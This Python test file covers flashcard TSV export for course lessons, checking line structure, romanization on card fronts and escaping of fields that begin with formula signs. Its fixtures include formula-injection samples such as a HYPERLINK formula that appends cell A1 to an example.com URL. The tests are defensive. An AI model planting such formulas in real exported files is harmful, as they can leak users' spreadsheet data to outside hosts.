"""exports/flashcards.tsv: one card a line, two fields, as Quizlet and Anki import it."""

from __future__ import annotations

import pytest
import yaml
from support.exports import LESSONS, export_path, lesson_of
from support.paths import MINIMAL_LESSON

from generators.formats.lms.flashcards import card_front, flashcards_tsv
from generators.model.lesson import CourseSettings, VocabularyTerm
from generators.reading.loader import load_lesson
from generators.text.escaping import SPREADSHEET_FORMULA_STARTS, spreadsheet_text


@pytest.mark.parametrize("lesson_id", LESSONS)
def test_flashcards_have_one_line_per_term_and_exactly_two_fields(exported, lesson_id):
    lesson = lesson_of(exported, lesson_id)
    data = export_path(exported, lesson_id, "flashcards.tsv").read_bytes()
    lines = data.decode("utf-8").split("\n")
    assert lines[-1] == "" and len(lines) - 1 == len(lesson.vocabulary)
    assert "\r" not in data.decode("utf-8")
    for line, word in zip(lines, lesson.vocabulary):
        front, back = line.split("\t")
        assert front.startswith(word.term.replace("\t", " "))
        assert back and "\n" not in back


def test_flashcards_clean_tabs_and_line_breaks_and_show_native_script_and_romanization(exported):
    lines = export_path(exported, "exports", "flashcards.tsv").read_text("utf-8").splitlines()
    assert lines[0] == ("tab term\tA definition with a tab here, a line break there and a carriage return at the "
                        "end.")
    assert lines[1] == "revisionism (修正主义, xiūzhèng zhǔyì)\tGiving up the core ideas."
    assert lines[2] == "{braces} & <tags>\tSigns ~ = # { } : \\ stay as typed."


def test_card_front_is_the_term_alone_unless_the_lesson_gives_script_or_romanization():
    assert card_front(VocabularyTerm(term="coexistence", definition="Living side by side.")) == "coexistence"
    assert card_front(VocabularyTerm(term="Dà Yuèjìn", definition="A plan.", romanization="dà yuèjìn")) == \
        "Dà Yuèjìn (dà yuèjìn)"


@pytest.mark.parametrize("text, expected", [
    ('=HYPERLINK("http://x","y")', '\'=HYPERLINK("http://x","y")'),
    ("+1", "'+1"), ("-x", "'-x"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("a = b + c", "a = b + c"), ("'quoted'", "'quoted'"), ("e-mail", "e-mail"),
])
def test_spreadsheet_text_keeps_a_field_from_starting_as_a_formula(text, expected):
    assert spreadsheet_text(text) == expected


def test_flashcards_never_start_a_field_with_a_formula_sign_and_keep_the_text_readable(tmp_path):
    lesson = yaml.safe_load(MINIMAL_LESSON)
    lesson["vocabulary"] = [
        {"term": '=HYPERLINK("http://example.com/?"&A1,"click")', "definition": "+1 for the class"},
        {"term": "-x", "definition": "@SUM(A1)"},
        {"term": "\t=1+1", "definition": "\r\n-2"},
        {"term": "plus", "definition": "Not a formula: a = b + c.", "native_script": "=x"},
    ]
    path = tmp_path / "lessons" / "formulas.yaml"
    path.parent.mkdir()
    path.write_text(yaml.safe_dump(lesson, allow_unicode=True), "utf-8")
    cards = flashcards_tsv(load_lesson(path, CourseSettings(), tmp_path).lesson)
    assert cards.splitlines() == ['\'=HYPERLINK("http://example.com/?"&A1,"click")\t\'+1 for the class',
                                  "'-x\t'@SUM(A1)", "'=1+1\t'-2", "plus (=x)\tNot a formula: a = b + c."]
    fields = [field for line in cards.splitlines() for field in line.split("\t")]
    assert not any(field.startswith(SPREADSHEET_FORMULA_STARTS) for field in fields)
